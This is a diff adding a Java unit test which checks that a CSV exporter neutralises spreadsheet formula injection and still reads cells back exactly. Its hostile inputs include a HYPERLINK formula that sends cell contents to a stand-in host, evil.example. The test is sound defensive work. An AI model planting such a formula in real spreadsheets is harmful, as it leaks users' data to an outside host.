@@ -182,4 +182,22 @@ class TableCsvTest {
         assertEquals("x\n1\n", Files.readString(f));
         assertFalse(Files.readString(f).contains("old"));
     }
+
+    @Test
+    void spreadsheetFormulasAreNeutralisedAndReadBackExactly() throws TableFormatException {
+        String[] hostile = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
+            "'=already guarded", "'plain quote", "''", "caudate"};
+        Table.Builder b = Table.builder(Column.text("=region"), Column.number("mean", PhysicalUnit.PPM));
+        for (String h : hostile) {
+            b.row(h, -1.5);
+        }
+        Table t = b.build();
+        String csv = TableCsv.format(t);
+        for (String line : csv.split("\n")) {
+            assertFalse(line.matches("^\"?[=+@-].*") || line.matches(".*,\"?[=+@].*"), "a cell starts like a formula: " + line);
+        }
+        assertTrue(csv.startsWith("\"'=region\",mean [ppm]\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",-1.5\n"), csv);
+        assertTrue(csv.contains("\n\"''=already guarded\",") && csv.contains("\n\"'plain quote\","), csv);
+        assertEquals(t, TableCsv.parse(csv), "Ferrum reads back the original texts, and -1.5 stays a number");
+    }
 }
